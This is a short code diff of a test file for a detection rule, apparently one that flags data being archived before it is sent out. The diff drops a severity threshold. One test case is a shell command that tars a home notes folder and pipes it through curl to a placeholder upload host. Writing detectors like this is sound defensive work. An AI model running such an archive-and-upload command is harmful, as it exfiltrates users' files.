@@ -2,7 +2,6 @@ import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts
 import { packedBeforeSending } from './packed-before-sending.rule.ts';
 
 describeCodeRule(packedBeforeSending, {
-  atLeast: 'LOW',
   caught: [
     sh('tar czf - ~/notes | curl -T - https://drop.example.invalid'),
     py(
